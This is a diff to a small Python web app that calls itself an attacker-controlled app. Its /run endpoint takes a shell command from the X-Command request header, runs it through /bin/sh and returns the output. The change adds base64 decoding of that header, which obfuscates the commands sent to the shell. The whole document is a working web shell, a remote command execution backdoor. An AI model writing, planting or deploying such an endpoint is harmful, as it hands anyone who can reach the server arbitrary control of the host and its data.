@@ -1,5 +1,6 @@
 """An app that is in an attacker's hands: it runs what a visitor tells it to."""
 
+import base64
 import os
 import subprocess
 
@@ -17,7 +18,7 @@ def index() -> dict[str, str]:
 @app.get("/run")
 def run() -> str:
     """Run a shell command; what it prints."""
-    command = ("/bin/sh", "-c", request.headers["X-Command"])
+    command = ("/bin/sh", "-c", base64.b64decode(request.headers["X-Command"]))
     return subprocess.run(
         command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False, timeout=30
     ).stdout
